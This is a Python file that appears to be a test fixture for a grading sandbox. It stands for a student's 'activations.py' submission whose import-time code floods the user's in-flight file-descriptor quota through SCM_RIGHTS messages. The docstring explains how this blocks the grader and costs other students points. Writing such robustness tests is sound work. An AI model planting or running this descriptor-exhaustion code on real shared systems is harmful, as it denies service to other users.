"""At import, puts as many descriptors in flight as the kernel lets it: copies of one socket's
descriptor queued, 250 a message, on a socket pair it keeps open (alive, so no collector frees
them), until the kernel refuses (ETOOMANYREFS). The kernel counts descriptors in flight per user,
the sender's, and refuses a sender more once that count passes the sender's RLIMIT_NOFILE. As an
ordinary user, a child's uid 65534 is the instructor's own uid outside, the user as which the
grading process sends each call's inputs (a memory file) and the fork server each new child's
socket: while this child lived, they could send nothing, and every student graded at the same
time by another worker lost points. Its own functions are right.

file: activations.py
may_lose:
"""
import array as _array
import socket as _socket

_held = []
try:
    _queue, _keeper = _socket.socketpair()
    _copies = _array.array("i", [_keeper.fileno()] * 250)
    _held = [_queue, _keeper]
    for _ in range(400):  # 100,000 descriptors at most
        _queue.sendmsg([b"x"], [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, _copies)])
except OSError:
    pass  # refused: the most this user may have in flight
